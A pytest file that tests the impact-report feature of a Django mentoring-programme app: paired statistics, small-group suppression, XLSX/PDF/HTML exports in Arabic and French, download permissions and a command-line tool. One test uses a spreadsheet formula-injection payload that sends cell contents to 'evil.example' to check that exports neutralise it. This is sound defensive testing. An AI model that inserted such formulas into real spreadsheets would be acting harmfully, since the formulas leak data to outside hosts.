"""The impact report: figures checked by hand, suppression, and the three exports."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation
from openpyxl import load_workbook
from scipy import stats

from clusterbridge.common.exports import XLSX_TYPE
from clusterbridge.jobs.models import Job
from clusterbridge.journeys import services
from clusterbridge.journeys.statistics import SUPPRESSED
from clusterbridge.reports import charts
from clusterbridge.reports.exporters import (
    EXPORTERS,
    document_html,
    render_html,
    render_pdf,
    render_xlsx,
)
from clusterbridge.reports.impact import build_impact_report
from tests.conftest import World
from tests.jobs.immediate import jobs_run_at_once
from tests.journeys.factories import IN_PROGRAMME, NOW, log_of, ratings


def _assess(world: World, pair_name: str, stage: str, value: int) -> None:
    pair = world.pair if pair_name == "pair" else world.second_pair
    services.submit_assessment(
        mentee=pair.mentee,
        stage=stage,
        rater="self",
        rated_by=pair.mentee.person,
        ratings=ratings(value),
        now=NOW,
    )


@pytest.fixture
def assessed(world: World) -> World:
    """Amina goes from 2 to 3 on every indicator, Karim from 2 to 4; no mentor ratings."""
    _assess(world, "pair", "baseline", 2)
    _assess(world, "pair", "end", 3)
    _assess(world, "second_pair", "baseline", 2)
    _assess(world, "second_pair", "end", 4)
    log_of(world.pair)
    return world


def test_area_change_matches_the_hand_computed_paired_interval(assessed: World) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)

    row = report.table("areas").rows[0]
    # self columns: n, baseline, end, change, low, high, share improved
    n, baseline, end, change, low, high, share = row[1:8]
    half_width = stats.t.ppf(0.975, df=1) * 0.5  # changes 1 and 2: s = 0.7071, s/sqrt(2) = 0.5
    assert (n, baseline, end, change, share) == (2, 2.0, 3.5, 1.5, 1.0)
    assert low == pytest.approx(1.5 - half_width)
    assert high == pytest.approx(1.5 + half_width)
    assert row[8] == 0  # no mentor rating: n = 0


def test_both_mentees_would_qualify_for_the_silver_label(assessed: World) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)
    mentees = {row[0]: row for row in report.table("mentees").rows}
    assert mentees["Amina"][3:5] == [6, "yes"]
    assert mentees["Karim"][3:5] == [6, "yes"]


def test_activity_counts_the_logged_sessions(assessed: World) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)
    activity = {row[0]: row for row in report.table("activity").rows}
    assert activity["Amina"][2:4] == [1, 1.0]
    assert activity["Karim"][2:4] == [0, 0.0]


def test_groups_of_fewer_than_three_people_are_suppressed(assessed: World) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)
    countries = [row for row in report.table("groups").rows if row[0] == "Country"]
    assert {row[1] for row in countries} == {"Morocco", "Tunisia", "France", "Italy"}
    assert all(row[2] is SUPPRESSED for row in countries)
    page = render_html(report)[2].decode()
    assert "fewer than 3" in page


def test_exports_share_one_contract(assessed: World) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)
    for name, exporter in EXPORTERS.items():
        filename, content_type, content = exporter(report)
        assert filename == f"impact-reloaded-en.{name}"
        assert content_type
        assert content


def test_the_workbook_has_one_sheet_per_table(assessed: World) -> None:
    with translation.override("ar"):
        report = build_impact_report(assessed.reloaded, now=NOW)
    _, _, content = render_xlsx(report)

    workbook = load_workbook(io.BytesIO(content))

    assert workbook.sheetnames == ["الملخص", *(table.title[:31] for table in report.tables)]
    areas = workbook.worksheets[1]
    assert areas.sheet_view.rightToLeft is True
    assert areas["B2"].value == 2  # n of the first area, a number, not text
    assert next(cell.value for cell in areas[1]) == "مجال الكفاءة"


def test_names_and_titles_stay_text_in_the_workbook(assessed: World) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    person = assessed.pair.mentee.person
    person.full_name = "=1+1"
    person.save()
    services.report_service(
        mentee=assessed.pair.mentee,
        reported_by=person,
        title=hyperlink,
        is_new=True,
        launched_on=IN_PROGRAMME,
    )
    _, _, content = render_xlsx(build_impact_report(assessed.reloaded, now=NOW))

    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    services_sheet = workbook.worksheets[1 + 5]
    mentee, _organisation, service = (cell.value for cell in services_sheet[2][:3])
    assert (mentee, service) == ("'=1+1", "'" + hyperlink)


@pytest.mark.skipif(
    shutil.which("pdftotext") is None and os.environ.get("CI") != "true",
    reason="pdftotext (poppler-utils) is not installed",
)
def test_the_arabic_pdf_carries_arabic_text(assessed: World, tmp_path: Path) -> None:
    with translation.override("ar"):
        report = build_impact_report(assessed.reloaded, now=NOW)
    _, content_type, content = render_pdf(report)
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(content)

    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout

    assert content_type == "application/pdf"
    assert content.startswith(b"%PDF")
    # Words without a lam-alef ligature, which text extraction splits into two letters.
    for word in ("الفترة", "الثنائيات", "Reloaded"):
        assert word in text
    # The axis label of the change charts ("التغير على سلم من 1 إلى 5"), written nowhere
    # else: chart labels are laid out by the HTML engine, so they come out in reading order
    # (its ligature "لى" is extracted as two letters, hence the two pieces).
    axis_lines = [line for line in text.splitlines() if "التغير" in line and "سلم من" in line]
    assert len(axis_lines) == 2
    # An area name with its fatha and shadda (pdftotext may give the two marks in either order).
    assert "الخدمات المقدَّمة" in unicodedata.normalize("NFC", text)


PDFTOTEXT = pytest.mark.skipif(
    shutil.which("pdftotext") is None and os.environ.get("CI") != "true",
    reason="pdftotext (poppler-utils) is not installed",
)


@PDFTOTEXT
def test_an_arabic_chart_label_with_vowel_marks_survives_in_the_pdf(tmp_path: Path) -> None:
    # Imported here: WeasyPrint loads Pango at import, which only this test needs.
    from weasyprint import HTML  # noqa: PLC0415

    label = "الخدمات المقدَّمة"
    svg = charts.grouped_bar_chart(
        [label, "التدويل"],
        [charts.Series("المرشد", [2, 3])],
        title="t",
        description="d",
        direction="rtl",
        lang="ar",
    )
    html = (
        '<html lang="ar" dir="rtl"><body style="font-family: \'Noto Sans\'">'
        f"{charts.with_html_labels(svg)}</body></html>"
    )
    pdf = tmp_path / "chart.pdf"
    pdf.write_bytes(HTML(string=html).write_pdf() or b"")

    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout

    assert label in unicodedata.normalize("NFC", text)
    assert "التدويل" in text


def test_the_pdf_document_draws_chart_labels_in_html_and_the_web_page_in_svg(
    assessed: World,
) -> None:
    report = build_impact_report(assessed.reloaded, now=NOW)

    for_pdf = document_html(report, labels_in_html=True)
    for_web = document_html(report)

    assert for_pdf.count('class="chart-canvas"') == 4
    assert "<text" not in for_pdf
    assert for_web.count("<text") > 0
    assert 'class="chart-canvas"' not in for_web


def test_the_web_page_export_is_standalone(assessed: World) -> None:
    with translation.override("fr"):
        report = build_impact_report(assessed.reloaded, now=NOW)
    page = render_html(report)[2].decode()
    assert '<html lang="fr" dir="ltr">' in page
    assert "Rapport d’impact" in page
    assert page.count("<svg") == 4
    assert "src=" not in page
    assert "<link" not in page


def test_the_impact_page_shows_the_charts(assessed: World) -> None:
    response = assessed.client_for("mona").get(f"/programmes/{assessed.reloaded.slug}/impact/")
    assert response.status_code == 200
    assert response.content.decode().count('role="img"') == 4


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("pdf", "application/pdf"), ("xlsx", XLSX_TYPE), ("html", "text/html; charset=utf-8")],
)
def test_asking_for_a_file_of_the_report_queues_a_job_only_its_requester_downloads(
    assessed: World, fmt: str, content_type: str
) -> None:
    with jobs_run_at_once():
        response = assessed.client_for("mona").post(f"/programmes/reloaded/impact/{fmt}/")

    job = Job.objects.get()
    assert response.status_code == 303
    assert response["Location"] == f"/jobs/{job.pk}/"
    assert (job.kind, job.params["lang"], job.status) == ("reports.impact", "en", "succeeded")
    download = assessed.client_for("mona").get(f"/jobs/{job.pk}/download")
    assert download["Content-Type"] == content_type
    assert download["Content-Disposition"] == f'attachment; filename="impact-reloaded-en.{fmt}"'
    assert assessed.client_for("marc").get(f"/jobs/{job.pk}/download").status_code == 404


def test_following_the_former_download_link_shows_a_button_and_queues_nothing(
    assessed: World,
) -> None:
    response = assessed.client_for("mona").get("/programmes/reloaded/impact/pdf/")
    assert response.status_code == 200
    assert 'action="/programmes/reloaded/impact/pdf/"' in response.content.decode()
    assert not Job.objects.exists()


def test_a_participant_cannot_ask_for_the_impact_report(assessed: World) -> None:
    response = assessed.client_for("amina").post("/programmes/reloaded/impact/pdf/")
    assert response.status_code == 404
    assert not Job.objects.exists()


@pytest.mark.parametrize("fmt", ["html", "pdf", "xlsx"])
def test_the_command_writes_the_requested_file(assessed: World, tmp_path: Path, fmt: str) -> None:
    output = tmp_path / f"report.{fmt}"
    err = io.StringIO()
    call_command(
        "impact_report", "reloaded", "--format", fmt, "--lang", "fr", "-o", str(output), stderr=err
    )
    assert output.stat().st_size > 1000
    assert err.getvalue().splitlines()[-1] == f"[{'#' * 30}] 2/2 Done"
    assert not Job.objects.exists()


def test_the_command_refuses_an_unknown_slug(db: None) -> None:
    with pytest.raises(CommandError, match="No programme with the slug 'nope'") as error:
        call_command("impact_report", "nope")
    assert error.value.returncode == 1


@pytest.mark.slow
def test_the_command_exit_codes(command_env: dict[str, str], tmp_path: Path) -> None:
    run = [sys.executable, "-m", "clusterbridge"]

    def exit_code(*arguments: str) -> tuple[int, str]:
        result = subprocess.run(
            [*run, "impact_report", *arguments], env=command_env, capture_output=True, text=True
        )
        assert "Traceback" not in result.stderr
        return result.returncode, result.stderr

    unknown, message = exit_code("nope", "-o", str(tmp_path / "x.html"))
    assert unknown == 1
    assert "No programme with the slug 'nope'" in message
    assert exit_code("nope", "--format", "doc")[0] == 2
    assert exit_code("nope", "--lang", "de")[0] == 2
